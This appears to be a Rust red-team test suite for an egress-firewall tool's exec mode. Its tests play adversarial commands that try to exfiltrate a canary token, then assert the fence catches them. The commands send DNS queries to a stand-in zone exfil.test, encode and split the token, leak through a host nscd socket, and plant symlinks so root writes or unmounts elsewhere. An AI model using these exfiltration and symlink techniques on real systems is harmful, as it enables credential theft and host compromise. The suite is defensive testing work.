//! Red team round 4 on `egress-fence exec`: CMD (as `--user nobody`, and as `--user root`
//! without capabilities) against the canary, pasta and what exec leaves to the filesystem.

use std::process::{Command, Output};

use crate::common::exec::*;
use crate::common::*;

/// A policy allowing every name under `exfil.test` (the adversary's zone: under an allowed
/// wildcard the threat model lets it own the names), beside [`policy_text`]'s own.
fn wildcard_policy(w: &World) -> String {
    let text = policy_text().replace(
        "allow:\n",
        "allow:\n  - domain: \"**.exfil.test\"\n    ports: [443]\n",
    );
    w.write_file("wildcard.yaml", &text)
        .to_str()
        .expect("utf-8 path")
        .to_string()
}

/// A policy also allowing UDP to 192.0.2.10:9999, beside [`policy_text`]'s own.
fn udp_policy(w: &World) -> std::path::PathBuf {
    let text = policy_text().replace(
        "allow:\n",
        "allow:\n  - cidr: 192.0.2.10/32\n    ports: [9999]\n    protocol: udp\n",
    );
    w.write_file("udp.yaml", &text)
}

/// Gives `cmd` the environment exec's command line `inner` sets (the state directory, no
/// `SUDO_USER`), for a wrapper that runs `inner`.
fn with_the_env_of(cmd: &mut Command, inner: &Command) {
    for (key, value) in inner.get_envs() {
        match value {
            Some(value) => cmd.env(key, value),
            None => cmd.env_remove(key),
        };
    }
}

/// `unshare -m --propagation private sh -c SCRIPT sh INNER...`: SCRIPT sets up what the test
/// plays of the host in a mount namespace of the test's own (nothing it mounts reaches the
/// machine's) and runs exec's command line `inner` as `"$@"`, with its environment.
fn in_a_mount_namespace_of_its_own(script: &str, inner: &Command) -> Command {
    let mut cmd = Command::new("unshare");
    cmd.args(["-m", "--propagation", "private", "sh", "-c", script, "sh"])
        .arg(inner.get_program())
        .args(inner.get_args())
        .stdin(std::process::Stdio::null());
    with_the_env_of(&mut cmd, inner);
    cmd
}

/// Runs exec's command line `inner` where [`FAKE_NSCD`] plays the host's nscd: in a mount
/// namespace of the test's own, the host's /run kept only for /run/netns (exec names its
/// namespace there, and the world's sandbox is named there), with a /run/nscd of the test's
/// own. The script starts the nscd (its pid in `$P`, killed at the end) and goes on with
/// `rest`, which runs `inner` as `"$@"`. Returns the outcome and how a failing test shows it
/// (with the nscd's log).
fn exec_beside_a_hosts_nscd(w: &World, inner: &Command, rest: &str) -> (Output, String) {
    let nscd = w.write_file("fake_nscd.py", FAKE_NSCD);
    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
    let script = format!(
        r#"set -e
mount --rbind /run "$D/run"
mount -t tmpfs tmpfs /run
mkdir /run/netns /run/nscd
mount --rbind "$D/run/netns" /run/netns
ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} > "$D/nscd.log" 2>&1 &
P=$!
trap "kill $P" EXIT
for i in $(seq 100); do test -S /run/nscd/socket && break; sleep 0.05; done
test -S /run/nscd/socket
set +e
{rest}"#
    );
    let out = in_a_mount_namespace_of_its_own(&script, inner)
        .env("D", w.dir())
        .env("SB", w.sandbox_name())
        .env("NSCD", &nscd)
        .output()
        .expect("run exec beside a host's nscd");
    let nscd_log = std::fs::read_to_string(w.dir().join("nscd.log")).unwrap_or_default();
    let shown = format!("{}\n--- nscd ---\n{nscd_log}", show(&out));
    (out, shown)
}

/// The names the world's resolver was asked that start with the canary's token.
fn canary_tokens_asked(w: &World) -> Vec<String> {
    w.dns_queries()
        .into_iter()
        .filter(|n| n.to_ascii_lowercase().starts_with("ck_live_"))
        .collect()
}

/// CMD asks its token's random part in pieces of 11 characters (one fewer than a fragment
/// the canary looks for in a single question), each as the first label of a name.
const ASK_IN_PIECES: &str = r#"
r=${CANARY_API_KEY#ck_live_}
for piece in $(echo "$r" | fold -w 11); do
    dig +time=1 +tries=1 "$piece.exfil.test" >/dev/null; echo "asked $piece"
done
exit 0"#;

/// A token split into pieces shorter than the canary's fragment trips when the guard
/// refuses the pieces (round 3 joined the refused questions' first labels), but not when
/// the policy lets them through: the questions that left (pasta's capture) were searched one
/// by one, never joined. So the run where the token really left the host, to the
/// authoritative servers of an allowed wildcard, exits with CMD's code and "the canary's
/// token was in no DNS question", while the same pieces refused trip.
#[test]
fn the_canary_trips_on_a_token_sent_upstream_in_short_pieces() {
    let w = World::new();
    let refused_policy = setup(&w);
    let refused = exec(
        &w,
        &refused_policy,
        &["--user", "nobody", "--canary"],
        ASK_IN_PIECES,
    );
    assert_eq!(refused.status.code(), Some(99), "{}", show(&refused));

    let policy = wildcard_policy(&w);
    let out = exec(
        &w,
        &policy,
        &["--user", "nobody", "--canary"],
        ASK_IN_PIECES,
    );
    let pieces: Vec<String> = stdout_of(&out)
        .lines()
        .filter_map(|l| l.strip_prefix("asked "))
        .map(str::to_string)
        .collect();
    assert_eq!(pieces.len(), 3, "{}", show(&out));
    let asked: Vec<String> = w
        .dns_queries()
        .iter()
        .map(|n| n.to_ascii_lowercase())
        .collect();
    for piece in &pieces {
        assert!(
            asked.iter().any(|n| n.starts_with(&format!("{piece}."))),
            "{piece} did not reach the resolver: {asked:?}\n{}",
            show(&out)
        );
    }
    assert_eq!(
        out.status.code(),
        Some(99),
        "the token left in pieces and the canary did not trip\n{}",
        show(&out)
    );
}

/// nscd's hosts cache as far as glibc's client needs it: each GETAI (getaddrinfo) or
/// GETHOSTBYNAME question is resolved by asking RESOLVER from the host, as nscd does, then
/// answered "not found". Arguments: SOCKET RESOLVER.
const FAKE_NSCD: &str = r#"
import os, socket, struct, sys
path, resolver = sys.argv[1], sys.argv[2]
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(path)
os.chmod(path, 0o666)
srv.listen(16)
def ask(name):
    wire = b''.join(bytes([len(l)]) + l.encode() for l in name.rstrip('.').split('.')) + b'\0'
    q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + wire + struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(q, (resolver, 53))
    try:
        s.recv(512)
    except OSError:
        pass
while True:
    c, _ = srv.accept()
    try:
        version, kind, keylen = struct.unpack('=iii', c.recv(12, socket.MSG_WAITALL))
        key = c.recv(keylen, socket.MSG_WAITALL).rstrip(b'\0').decode()
        print('asked', kind, key, flush=True)
        if kind in (4, 5, 14):  # GETHOSTBYNAME, GETHOSTBYNAMEv6, GETAI
            ask(key)
            c.sendall(struct.pack('=6i', 2, 0, 0, 0, 0, 1) if kind == 14
                      else struct.pack('=8i', 2, 0, 0, 0, 0, 0, 0, 1))
    except Exception as e:
        print('error', e, flush=True)
    c.close()
"#;

/// In a user namespace of CMD's own, which holds CAP_SYS_ADMIN over a mount namespace of
/// its own: takes the hider off the nscd socket, or finds the socket under a
/// non-recursive bind of /run (which would leave the hider behind). Prints what worked,
/// then `userns-tried`.
const UNHIDE: &str = r#"
import ctypes, os, tempfile
libc = ctypes.CDLL(None, use_errno=True)
# CLONE_NEWUSER | CLONE_NEWNS, in this process: an execve would lose the capabilities.
if libc.unshare(0x10000000 | 0x00020000) != 0:
    print('unshare', os.strerror(ctypes.get_errno()))
if libc.umount2(b'/run/nscd/socket', 2) == 0:
    print('unmounted-hider')
else:
    print('umount', os.strerror(ctypes.get_errno()))
d = tempfile.mkdtemp().encode()
if libc.mount(b'/run', d, None, 4096, None) == 0:  # MS_BIND, not recursive
    if os.path.exists(d + b'/nscd/socket') and not os.path.exists(d + b'/nscd/x'):
        import stat
        if stat.S_ISSOCK(os.stat(d + b'/nscd/socket').st_mode):
            print('revealed-socket')
else:
    print('bind', os.strerror(ctypes.get_errno()))
print('userns-tried')
"#;

/// The README says CMD's names resolve only through the guard, so DNS cannot carry data
/// out. But glibc asks nscd's hosts cache (`/run/nscd/socket`) before resolv.conf's server,
/// and nscd resolves from the host's namespace, past the fence: on a host running nscd
/// (or systemd-resolved with nss-resolve, whose varlink socket glibc asks instead of
/// resolv.conf), an ordinary `getent ahosts TOKEN.exfil.test` in CMD carries the token to
/// the host's resolver, and the canary, which hears only the guard and pasta's capture,
/// says "the canary's token was in no DNS question". `check` warns about these resolvers
/// for a fenced host; exec said nothing and left their sockets in CMD's mount namespace.
/// The host's nscd is played by [`FAKE_NSCD`] in the sandbox (exec's host), its socket on
/// a tmpfs over /run in a mount namespace of the test's own.
#[test]
fn cmds_names_do_not_resolve_through_the_hosts_nscd() {
    let w = World::new();
    let policy = setup(&w);
    let inner = exec_command(
        &w,
        &policy,
        &["--user", "nobody", "--canary"],
        &format!(
            "getent ahosts \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo \"getent=$?\"; \
             python3 -c \"$(cat <<'PY'\n{UNHIDE}\nPY\n)\"; exit 0"
        ),
    );
    let (out, shown) = exec_beside_a_hosts_nscd(&w, &inner, r#""$@""#);
    let text = stdout_of(&out);
    assert!(
        text.contains("getent=") && text.contains("userns-tried"),
        "{shown}"
    );
    // A user namespace of CMD's own gets the mounts locked: the hider cannot be taken off,
    // nor the socket found under a non-recursive bind of /run.
    for got in ["unmounted-hider", "revealed-socket"] {
        assert!(!text.contains(got), "{got}\n{shown}");
    }
    let leaked = canary_tokens_asked(&w);
    assert!(
        leaked.is_empty(),
        "CMD's question left through the host's nscd: {leaked:?}\n{shown}"
    );
    assert_eq!(out.status.code(), Some(99), "{shown}");
}

/// exec's stderr may be a socket (a systemd unit's, whose stderr is a stream to journald;
/// inetd's), and CMD shares it: `shutdown(2, SHUT_WR)` in CMD shuts it for exec too. exec's
/// summary at exit was printed with `eprintln!`, which panics when the write fails: exec
/// died with 101 (a code it documents nowhere) before writing `--report`, so a token CMD
/// leaked as a DNS name (the guard refused it: the canary tripped) showed neither as exit
/// 99 nor in the report.
#[test]
fn cmd_shutting_a_shared_stderr_socket_does_not_hide_a_tripped_canary() {
    use std::io::Read;
    use std::os::unix::net::UnixStream;
    let w = World::new();
    let policy = setup(&w);
    let report = w.dir().join("report.json");
    let (ours, theirs) = UnixStream::pair().expect("a socket pair");
    let reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = (&ours).read_to_string(&mut text);
        text
    });
    let out = exec_command(
        &w,
        &policy,
        &[
            "--user",
            "nobody",
            "--canary",
            "--report",
            report.to_str().expect("utf-8 path"),
        ],
        "python3 -c 'import socket; socket.socket(fileno=2).shutdown(socket.SHUT_WR)'; \
         dig +time=1 +tries=1 \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo asked; exit 0",
    )
    .stderr(std::process::Stdio::from(std::os::fd::OwnedFd::from(
        theirs,
    )))
    .output()
    .expect("run egress-fence exec");
    let stderr = reader.join().expect("the stderr reader");
    let shown = format!("{}\n--- stderr socket ---\n{stderr}", show(&out));
    assert!(stdout_of(&out).contains("asked"), "{shown}");
    let written = std::fs::read_to_string(&report).unwrap_or_default();
    assert!(
        written.contains("\"canary_tripped\": true"),
        "report: {written:?}\n{shown}"
    );
    assert_eq!(out.status.code(), Some(99), "{shown}");
}

/// `--report FILE` is opened by exec (root) before CMD starts, refusing a symbolic link at
/// FILE itself (`O_NOFOLLOW`) but following one anywhere on the way to it: a directory CMD's
/// user may write (its working directory, where `--report out/report.json` lands) may hold
/// a link that CMD of an earlier run left, and through it root creates, or empties and
/// rewrites, a file of that name in any directory. The canary file refuses exactly this
/// (`open_canary_dir`); the report did not.
#[test]
fn the_report_is_never_written_through_a_linked_directory() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let policy = setup(&w);
    let work = w.dir().join("work");
    std::fs::create_dir(&work).expect("CMD's working directory");
    let chown = std::process::Command::new("chown")
        .args(["nobody", work.to_str().expect("utf-8 path")])
        .status()
        .expect("chown");
    assert!(chown.success());
    // The world's directory is root's 0700: nobody must reach its working directory.
    std::fs::set_permissions(w.dir(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let victims = w.dir().join("victims");
    std::fs::create_dir(&victims).expect("root's directory");
    let victim = victims.join("report.json");
    std::fs::write(&victim, "root's own\n").expect("root's file");

    // The earlier run: CMD leaves `out` pointing at root's directory.
    let plant = exec_in(
        &w,
        &work,
        &policy,
        &["--user", "nobody"],
        &format!("ln -s {} out && echo planted", victims.display()),
    );
    assert!(stdout_of(&plant).contains("planted"), "{}", show(&plant));

    let out = exec_in(
        &w,
        &work,
        &policy,
        &["--user", "nobody", "--report", "out/report.json"],
        "exit 0",
    );
    assert_eq!(
        std::fs::read_to_string(&victim).expect("the victim"),
        "root's own\n",
        "root wrote the report through CMD's link\n{}",
        show(&out)
    );
    assert_ne!(out.status.code(), Some(0), "{}", show(&out));
}

/// pasta's capture (`--canary`) holds every frame of the run, and exec read it whole into
/// memory at exit: CMD sending 200 MB to an allowed destination (a download from an allowed
/// registry does the same) made exec take 200 MB more at exit. Where memory is bounded (a
/// unit's `MemoryMax=`, a CI container) exec is then killed before its verdict: no exit
/// 99, no report, for a token CMD also leaked. Now the capture is read a frame at a time.
#[test]
fn exec_reads_pastas_capture_in_bounded_memory() {
    let w = World::new();
    setup(&w);
    // UDP to a port nothing listens on: every datagram is captured, none is kept.
    let policy = udp_policy(&w);
    let policy = policy.to_str().expect("utf-8 path");
    let inner = exec_command(
        &w,
        policy,
        &["--user", "nobody", "--canary"],
        "python3 -c \"
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('192.0.2.10', 9999))
data = b'x' * 60000
for _ in range(3400):
    s.send(data)
print('sent')
\"; exit 0",
    );
    // The largest resident size of a process below the wrapper (exec's, pasta's, CMD's).
    let mut cmd = std::process::Command::new("python3");
    cmd.args([
        "-c",
        "import resource, subprocess, sys; r = subprocess.run(sys.argv[1:]); \
         print('maxrss_kib', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); \
         sys.exit(r.returncode)",
    ])
    .arg(inner.get_program())
    .args(inner.get_args())
    .stdin(std::process::Stdio::null());
    with_the_env_of(&mut cmd, &inner);
    let out = cmd.output().expect("run exec");
    let text = stdout_of(&out);
    assert!(text.contains("sent"), "{}", show(&out));
    let maxrss: u64 = text
        .lines()
        .find_map(|l| l.strip_prefix("maxrss_kib "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no maxrss\n{}", show(&out)));
    assert!(
        maxrss < 100 * 1024,
        "exec took {maxrss} KiB for a capture of 200 MB\n{}",
        show(&out)
    );
}

/// README: "no port forwarded in (`-t none -u none`)". But pasta relays a UDP flow by
/// binding the host's port that CMD's datagram came from, unconnected (a full-cone NAT):
/// once CMD sent one datagram from port P to an allowed UDP destination, every datagram any
/// host sends to the host's port P is delivered to CMD, and conntrack in the run's
/// namespace records a flow that outside host started, whose answers the fence lets out as
/// `established`. So an outside accomplice the policy does not allow gets CMD's bytes, and
/// the fence reports nothing refused. (It needs the host's port P reachable from the
/// accomplice: the README's "keep the host's inbound side closed" stops it, as it stops a
/// fenced host's own sockets; but exec forwards nothing in by its own account.)
/// Now exec's table refuses replies (`ct direction reply`) leaving anywhere but loopback,
/// before `ct state established,related accept` (`Rule::RefuseRepliesOut`, an extra of
/// exec's run): nothing in its namespace serves the outside.
#[test]
fn an_outside_host_does_not_get_answers_through_a_udp_port_pasta_bound() {
    use std::net::UdpSocket;
    use std::time::Duration;
    let w = World::new();
    setup(&w);
    let policy = udp_policy(&w);
    let script = r#"python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('0.0.0.0', 40000))
s.sendto(b'to the allowed host', ('192.0.2.10', 9999))
s.settimeout(8)
try:
    d, a = s.recvfrom(100)
    print('received', d, a)
    s.sendto(b'SECRET', a)
except OSError as e:
    print('nothing came', e)
"; exit 0"#;
    let child = exec_command(
        &w,
        policy.to_str().expect("utf-8 path"),
        &["--user", "nobody"],
        script,
    )
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped())
    .spawn()
    .expect("start egress-fence exec");
    // The accomplice, a host the policy does not allow, sends to the host's port 40000.
    let answer = w.in_net_ns(|| {
        let s = UdpSocket::bind((OTHER_V4, 5555)).expect("bind the outside host");
        s.set_read_timeout(Some(Duration::from_millis(300)))
            .expect("a timeout");
        let mut buf = [0u8; 100];
        for _ in 0..30 {
            let _ = s.send_to(b"from outside", (SANDBOX_V4, 40000));
            if let Ok((n, _)) = s.recv_from(&mut buf) {
                return Some(buf[..n].to_vec());
            }
        }
        None
    });
    let out = child.wait_with_output().expect("wait for exec");
    // The datagram came in (pasta relays it); only CMD's answer must not leave.
    assert!(stdout_of(&out).contains("received"), "{}", show(&out));
    assert_eq!(
        answer,
        None,
        "an outside host got CMD's answer\n{}",
        show(&out)
    );
}

/// The canary ignores the dots between labels, so a token split into labels trips; but
/// split by another character inside one label (`-`, as `fold -w 11 | paste -sd-` writes
/// it), no run of 12 of its characters is left and nothing trips, though the name carries
/// the whole token (the receiver drops the hyphens). Round 3 made pieces shorter than a
/// fragment trip across questions; within one name they did not.
#[test]
fn the_canary_trips_on_a_token_split_by_hyphens_in_one_name() {
    let w = World::new();
    let policy = setup(&w);
    let out = exec(
        &w,
        &policy,
        &["--user", "nobody", "--canary"],
        "r=${CANARY_API_KEY#ck_live_}; name=$(echo \"$r\" | fold -w 11 | paste -sd-); \
         echo \"asked $name\"; dig +time=1 +tries=1 \"$name.exfil.test\" >/dev/null; exit 0",
    );
    assert!(stdout_of(&out).contains("asked "), "{}", show(&out));
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
}

/// What held: pasta's tap device cannot be attached by CMD, as root (`EBUSY`: one queue,
/// pasta's; `EINVAL` as multi-queue) or as nobody (`/dev/net/tun` refused, or `EBUSY` where
/// it is 0666), so CMD writes no packet as if received on it; and the names CMD asks are
/// shown escaped (`\027`), so a refused name cannot move or erase the operator's lines
/// (the canary's verdict among them) with terminal control sequences.
#[test]
fn pastas_tap_is_not_attached_and_refused_names_carry_no_control_bytes() {
    let w = World::new();
    let policy = setup(&w);
    let script = r#"python3 - <<'PY'
import errno, fcntl, os, socket, struct
for flags, what in ((0x0002 | 0x1000, 'single'), (0x0002 | 0x1000 | 0x0100, 'multi')):
    try:
        fd = os.open('/dev/net/tun', os.O_RDWR)
        fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', b'eth0', flags))
        print(what, 'ATTACHED')
    except OSError as e:
        print(what, errno.errorcode[e.errno])
name = b'x\x1b[1A\x1b[2K\ry'
wire = bytes([len(name)]) + name + b'\x05exfil\x04test\x00'
q = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + wire + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.sendto(q, ('127.0.0.53', 53))
try:
    s.recv(512)
    print('answered')
except OSError:
    pass
PY
exit 0"#;
    for user in ["root", "nobody"] {
        let out = exec(&w, &policy, &["--user", user], script);
        let text = stdout_of(&out);
        assert!(
            text.contains("single ") && text.contains("multi "),
            "{}",
            show(&out)
        );
        assert!(!text.contains("ATTACHED"), "{user}\n{}", show(&out));
        assert!(
            !out.stderr.iter().any(|b| *b == 0x1b || *b == b'\r'),
            "{user}: a control byte reached the operator's terminal\n{}",
            show(&out)
        );
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("x\\027[1a\\027[2k\\013y.exfil.test"),
            "{user}\n{}",
            show(&out)
        );
    }
}

/// The README: the token "raw or encoded (hex, base32, base64, also shifted by leading bytes
/// or reversed ...)". The token reversed and then encoded in base32 or base64 tripped nothing
/// (only hex of it, and each encoding's text reversed, were looked for).
#[test]
fn the_canary_trips_on_the_reversed_token_in_base32_and_base64() {
    let w = World::new();
    let policy = setup(&w);
    for encode in ["b32encode", "urlsafe_b64encode"] {
        let out = exec(
            &w,
            &policy,
            &["--user", "nobody", "--canary"],
            &format!(
                "name=$(python3 -c 'import base64, os; \
                 e = base64.{encode}(os.environ[\"CANARY_API_KEY\"][::-1].encode()).decode().rstrip(\"=\"); \
                 print(e[:40] + \".\" + e[40:])'); \
                 echo \"asked $name\"; dig +time=1 +tries=1 \"$name.exfil.test\" >/dev/null; exit 0"
            ),
        );
        assert!(stdout_of(&out).contains("asked "), "{}", show(&out));
        assert_eq!(out.status.code(), Some(99), "{encode}\n{}", show(&out));
    }
}

/// Each run removes the names killed runs left in /run/netns, as `ip netns delete` does:
/// `umount2(MNT_DETACH)`, then unlink. `umount2` follows a symbolic link, and /run/netns is
/// root's, which CMD as `--user root` is by its uid: CMD plants
/// `/run/netns/ef-exec-<a pid no process has>` pointing at any mount point of the host, and
/// the next run (root, with every capability) detaches that mount from the host's mount
/// namespace. (Shown in a mount namespace of the test's own, with a tmpfs over /run/netns
/// so that no other run on this machine meets the link, and a tmpfs as the host's mount.)
#[test]
fn the_next_runs_cleanup_does_not_unmount_what_cmds_link_names() {
    let w = World::new();
    let policy = setup(&w);
    std::fs::create_dir(w.dir().join("netns")).expect("a directory for /run/netns");
    std::fs::create_dir(w.dir().join("mnt")).expect("the host's mount point");
    let plant = exec_command(
        &w,
        &policy,
        &["--user", "root"],
        &format!(
            "ln -s {} /run/netns/ef-exec-4000001 && echo planted; exit 0",
            w.dir().join("mnt").display()
        ),
    );
    let next = exec_command(&w, &policy, &["--user", "nobody"], "exit 0");
    let command_line = |c: &Command| -> String {
        std::iter::once(c.get_program())
            .chain(c.get_args())
            .map(|a| format!("'{}'", a.to_string_lossy()))
            .collect::<Vec<_>>()
            .join(" ")
    };
    let script = format!(
        r#"set -e
mount --rbind /run/netns "$D/netns"
mount -t tmpfs tmpfs /run/netns
touch "/run/netns/$SB"
mount --bind "$D/netns/$SB" "/run/netns/$SB"
mount -t tmpfs victim "$VICTIM"
touch "$VICTIM/mounted"
set +e
{plant}
{next}
test -e "$VICTIM/mounted" && echo still-mounted
exit 0"#,
        plant = command_line(&plant),
        next = command_line(&next),
    );
    let mut cmd = Command::new("unshare");
    cmd.args(["-m", "--propagation", "private", "sh", "-c", &script])
        .env("D", w.dir())
        .env("SB", w.sandbox_name())
        .env("VICTIM", w.dir().join("mnt"))
        .stdin(std::process::Stdio::null());
    with_the_env_of(&mut cmd, &plant);
    let out = cmd.output().expect("run exec twice");
    let text = stdout_of(&out);
    assert!(text.contains("planted"), "{}", show(&out));
    assert!(
        text.contains("still-mounted"),
        "the next run unmounted the host's mount CMD's link named\n{}",
        show(&out)
    );
}

/// README: "A tripped canary makes exec exit 99, whatever CMD's own code." But when the
/// `--report` could not be written at exit, exec returned 125 (or CMD's code, if higher)
/// whatever the canary said; and the report may be on a filesystem CMD's user can fill (a
/// tmpfs /tmp, where the root's reserve of an ext4 does not apply). CMD fills it, leaks its
/// token as a DNS name, and the caller that looks for 99 sees 125.
#[test]
fn a_tripped_canary_exits_99_even_when_the_report_cannot_be_written() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let policy = setup(&w);
    std::fs::set_permissions(w.dir(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let small = w.dir().join("small");
    std::fs::create_dir(&small).expect("a mount point");
    let inner = exec_command(
        &w,
        &policy,
        &[
            "--user",
            "nobody",
            "--canary",
            "--report",
            small.join("report.json").to_str().expect("utf-8 path"),
        ],
        &format!(
            "dd if=/dev/zero of={}/fill bs=64k 2>/dev/null; \
             dig +time=1 +tries=1 \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo asked; exit 3",
            small.display()
        ),
    );
    let script = r#"set -e
mount -t tmpfs -o size=1m tmpfs "$SMALL"
chown nobody "$SMALL"
set +e
"$@""#;
    let out = in_a_mount_namespace_of_its_own(script, &inner)
        .env("SMALL", &small)
        .output()
        .expect("run exec with its report on a small tmpfs");
    assert!(stdout_of(&out).contains("asked"), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("cannot write the report"),
        "{}",
        show(&out)
    );
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
}

/// Answers are hostile input: "the host's own addresses are never installed". In exec the
/// guard runs in the run's namespace and takes "the host's own addresses" from there: the
/// copy of one interface's addresses pasta made. The host's other addresses (a second
/// interface's, docker0's 172.17.0.1, one on its loopback device) are installed when a name
/// under an allowed wildcard answers them, and pasta connects from the host to the host
/// itself: CMD reaches every service of the host bound to that address or to all of them.
/// Here exec's host (the world's sandbox) has 198.18.0.7 on its loopback device and a
/// service on it; `svc.exfil.test` (the adversary's zone, allowed) answers 198.18.0.7.
#[test]
fn an_answer_naming_another_address_of_the_host_is_not_installed() {
    use std::net::{IpAddr, Ipv4Addr, TcpListener};
    let w = World::new();
    setup(&w);
    let policy = wildcard_policy(&w);
    let other = IpAddr::V4(Ipv4Addr::new(198, 18, 0, 7));
    let added = std::process::Command::new("ip")
        .args(["netns", "exec", w.sandbox_name()])
        .args(["ip", "addr", "add", "198.18.0.7/32", "dev", "lo"])
        .status()
        .expect("ip addr add");
    assert!(added.success());
    let service =
        w.in_sandbox_ns(|| TcpListener::bind((other, 443)).expect("a service of the host"));
    service.set_nonblocking(true).expect("nonblocking");
    w.dns_set("svc.exfil.test", &[other], 60);
    let out = exec(
        &w,
        &policy,
        &["--user", "nobody"],
        "nc -z -w 2 svc.exfil.test 443 && echo reached; echo done; exit 0",
    );
    assert!(stdout_of(&out).contains("done"), "{}", show(&out));
    assert!(
        service.accept().is_err() && !stdout_of(&out).contains("reached"),
        "CMD reached a service of the host through an answer naming the host's address\n{}",
        show(&out)
    );
}

/// exec fences "one command", but takes any guard-mode policy, one with a `scope:` too: then
/// its table fences only the scope's sockets (`meta skuid`), and CMD run as a user the scope
/// does not list (`--user root`, or a set-uid program CMD runs) is not fenced at all in the
/// run's namespace, which pasta connects to the host's network: it reached a port the policy
/// does not open. An operator who reuses the host's policy (`scope: users: [agent]`) for
/// `exec --user root` (or for an agent that finds a set-uid binary) gets no fence and no
/// word of it. exec must refuse a policy with a scope (the whole namespace is CMD's).
#[test]
fn a_scoped_policy_does_not_leave_cmd_unfenced() {
    let w = World::new();
    setup(&w);
    let text = format!("{}scope:\n  users: [65534]\n", policy_text());
    let policy = w.write_file("scoped.yaml", &text);
    let listener = w.listen_tcp(HOST_V4, OTHER_PORT);
    let script = format!(
        "python3 -c \"
import socket
try:
    s = socket.create_connection(('{HOST_V4}', {OTHER_PORT}), timeout=3)
    s.sendall(b'SECRET from an unfenced CMD')
    print('connected')
except OSError as e:
    print('refused', e)
\"; exit 0"
    );
    let out = exec(
        &w,
        policy.to_str().expect("utf-8 path"),
        &["--user", "root"],
        &script,
    );
    listener.wait_for(1, std::time::Duration::from_secs(1));
    let hits: Vec<String> = listener
        .hits()
        .iter()
        .map(|h| String::from_utf8_lossy(&h.data).into_owned())
        .collect();
    assert!(
        hits.is_empty(),
        "CMD reached a port the policy does not open: {hits:?}\n{}",
        show(&out)
    );
}

/// exec hides the host's resolvers' sockets by binding /dev/null over each socket file that
/// exists when CMD starts. A daemon that restarts meanwhile (an upgrade restarting nscd or
/// systemd-resolved, NetworkManager restarting its dnsmasq) removes its socket and binds a new
/// one: removing a name that is a mount point in another mount namespace is allowed, and
/// detaches that namespace's mount (Linux 3.18), so the new socket is in CMD's /run,
/// unhidden, and glibc asks it again: CMD's question left through the host's nscd, past the
/// guard and the canary, for the rest of the run. The same for a resolver that starts after
/// exec. The directory must be hidden (an empty tmpfs over it), not the file.
#[test]
fn a_restarted_hosts_nscd_is_still_hidden_from_cmd() {
    let w = World::new();
    let policy = setup(&w);
    let inner = exec_command(
        &w,
        &policy,
        &["--user", "nobody", "--canary"],
        "sleep 4; getent ahosts \"$CANARY_API_KEY.exfil.test\" >/dev/null; \
         echo \"getent=$?\"; exit 0",
    );
    // The nscd restarts (its socket removed and bound anew) while CMD runs.
    let rest = format!(
        r#""$@" &
E=$!
sleep 2
kill $P; wait $P; rm -f /run/nscd/socket
ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} >> "$D/nscd.log" 2>&1 &
P=$!
trap "kill $P" EXIT
wait $E"#
    );
    let (out, shown) = exec_beside_a_hosts_nscd(&w, &inner, &rest);
    assert!(stdout_of(&out).contains("getent="), "{shown}");
    let leaked = canary_tokens_asked(&w);
    assert!(
        leaked.is_empty(),
        "CMD's question left through the restarted host's nscd: {leaked:?}\n{shown}"
    );
    assert_eq!(out.status.code(), Some(99), "{shown}");
}

/// The hiding of systemd-resolved's directory (an empty tmpfs over /run/systemd/resolve)
/// must not take CMD's resolv.conf with it where /etc/resolv.conf is resolved's link to
/// `stub-resolv.conf` (Ubuntu's, Fedora's default): the guard's resolv.conf is bound where
/// the link points, and CMD's names still resolve through the guard.
#[test]
fn cmd_resolves_through_the_guard_where_resolv_conf_links_into_resolveds_directory() {
    let w = World::new();
    let policy = setup(&w);
    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
    let inner = exec_command(
        &w,
        &policy,
        &["--user", "nobody"],
        &format!(
            "cat /etc/resolv.conf; getent ahosts {ALLOWED} | head -1; \
             ls /run/systemd/resolve; exit 0"
        ),
    );
    let outer = r#"set -e
mount --rbind /run "$D/run"
mount -t tmpfs tmpfs /run
mkdir -p /run/netns /run/systemd/resolve
mount --rbind "$D/run/netns" /run/netns
echo "nameserver 127.0.0.99" > /run/systemd/resolve/stub-resolv.conf
echo "nameserver 192.0.2.53" > /run/systemd/resolve/resolv.conf
cp -a /etc "$D/etc"
rm -f "$D/etc/resolv.conf"
ln -s ../run/systemd/resolve/stub-resolv.conf "$D/etc/resolv.conf"
mount --bind "$D/etc" /etc
set +e
"$@""#;
    let out = in_a_mount_namespace_of_its_own(outer, &inner)
        .env("D", w.dir())
        .output()
        .expect("run exec beside a host's systemd-resolved");
    eprintln!("{}", show(&out));
    let text = stdout_of(&out);
    assert!(
        text.contains(&format!("nameserver {}", GUARD_ADDR.ip())),
        "{}",
        show(&out)
    );
    assert!(text.contains(&HOST_V4.to_string()), "{}", show(&out));
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
}
